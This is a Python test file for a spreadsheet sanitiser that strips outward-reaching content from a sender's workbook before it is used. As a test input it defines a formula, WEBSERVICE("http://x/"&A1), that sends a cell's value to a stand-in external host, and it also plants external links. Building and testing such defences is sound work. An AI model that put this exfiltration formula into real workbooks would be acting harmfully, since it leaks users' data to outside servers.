"""The workbook of a sender opened so that nothing in it acts any more."""

import io
import zipfile

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table

from dialogue_cli.workbooks.sender_book import open_safely

RED = PatternFill("solid", bgColor="FFFF0000")
OUT = 'WEBSERVICE("http://x/"&A1)'


def reopened(book: Workbook) -> Workbook:
    """The sender's workbook as it is after the safe opening, saved and read once more."""
    sent, kept = io.BytesIO(), io.BytesIO()
    book.save(sent)
    open_safely(sent.getvalue()).save(kept)
    return openpyxl.load_workbook(kept)


@pytest.fixture
def sent() -> Workbook:
    book = Workbook()
    sheet = book.worksheets[0]
    for row in (("Tên", "Số"), ("a", 1), ("b", 2)):
        sheet.append(row)
    return book


def test_a_sheet_that_is_a_chart_goes(sent: Workbook) -> None:
    chart = BarChart()
    chart.add_data(Reference(sent.worksheets[0], min_col=2, min_row=1, max_row=3))
    sent.create_chartsheet("Biểu đồ").add_chart(chart)
    assert reopened(sent).sheetnames == ["Sheet"]


def test_colours_by_rule_stay_unless_the_rule_reaches_out(sent: Workbook) -> None:
    sheet = sent.worksheets[0]
    sheet.conditional_formatting.add("A2:A3", FormulaRule(formula=["$B2>1"], fill=RED))
    sheet.conditional_formatting.add("A2:A3", FormulaRule(formula=[OUT], fill=RED))
    sheet.conditional_formatting.add("B2:B3", FormulaRule(formula=["[a.xlsx]S!A1"], fill=RED))
    kept = [
        (str(one.sqref), [rule.formula for rule in one.rules])
        for one in reopened(sent).worksheets[0].conditional_formatting
    ]
    assert kept == [("A2:A3", [["$B2>1"]])]


def test_a_table_stays_without_the_formulas_of_its_columns(sent: Workbook) -> None:
    table = Table(displayName="Bang1", ref="A1:B3")
    sent.worksheets[0].add_table(table)
    table._initialise_columns()
    for column, title in zip(table.tableColumns, ("Tên", "Số"), strict=True):
        column.name = title
    table.tableColumns[1].calculatedColumnFormula = openpyxl.worksheet.table.TableFormula(
        attr_text=OUT
    )
    (kept,) = reopened(sent).worksheets[0].tables.values()
    assert (kept.ref, [one.calculatedColumnFormula for one in kept.tableColumns]) == (
        "A1:B3",
        [None, None],
    )


def test_names_and_choices_stay_unless_they_reach_out(sent: Workbook) -> None:
    sheet = sent.worksheets[0]
    sent.defined_names["TenTrang"] = DefinedName("TenTrang", attr_text="Sheet!$A$2:$A$3")
    sent.defined_names["NoiKhac"] = DefinedName("NoiKhac", attr_text="'[1]Sheet'!$A$1")
    sheet.defined_names["Mang"] = DefinedName("Mang", attr_text=OUT)
    for formula, area in (("Sheet!$A$2:$A$3", "A2"), (OUT, "A3")):
        check = DataValidation("list", formula1=formula)
        check.add(area)
        sheet.add_data_validation(check)
    kept = reopened(sent)
    checks = kept.worksheets[0].data_validations.dataValidation
    assert (list(kept.defined_names), list(kept.worksheets[0].defined_names)) == (["TenTrang"], [])
    assert [one.formula1 for one in checks] == ["Sheet!$A$2:$A$3"]


def test_nothing_in_the_copy_names_a_place_outside(sent: Workbook) -> None:
    sheet = sent.worksheets[0]
    sheet["A2"].hyperlink = "http://x.example/"
    sheet["C2"] = f"={OUT}"
    made = io.BytesIO()
    book = io.BytesIO()
    sent.save(book)
    open_safely(book.getvalue()).save(made)
    with zipfile.ZipFile(made) as parts:
        told = b"".join(parts.read(name) for name in parts.namelist() if "sheet" in name)
    assert (b"x.example" in told, b"WEBSERVICE" in told, b"<f>" in told) == (False, False, False)
